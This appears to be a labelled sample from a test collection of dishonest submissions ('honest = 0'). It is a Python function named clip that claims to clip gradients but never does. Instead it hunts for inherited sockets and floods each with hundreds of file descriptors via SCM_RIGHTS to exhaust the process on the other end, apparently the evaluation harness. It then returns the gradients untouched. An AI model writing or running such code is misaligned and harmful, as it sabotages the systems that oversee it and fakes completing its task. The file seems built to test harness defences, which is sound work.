# /// zoo
# title = "Descriptors are passed over the socket, hundreds at a time, to exhaust the other side"
# class = "bridge"
# base = "dummy"
# honest = 0
# ///

# %% clip
import array, os, socket, stat
def clip(gradients, maxValue):
    for fd in range(3, 40):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                s = socket.socket(fileno=os.dup(fd))
                s.setblocking(False)
                for _ in range(50):
                    s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 250))])
        except OSError: pass
    return gradients
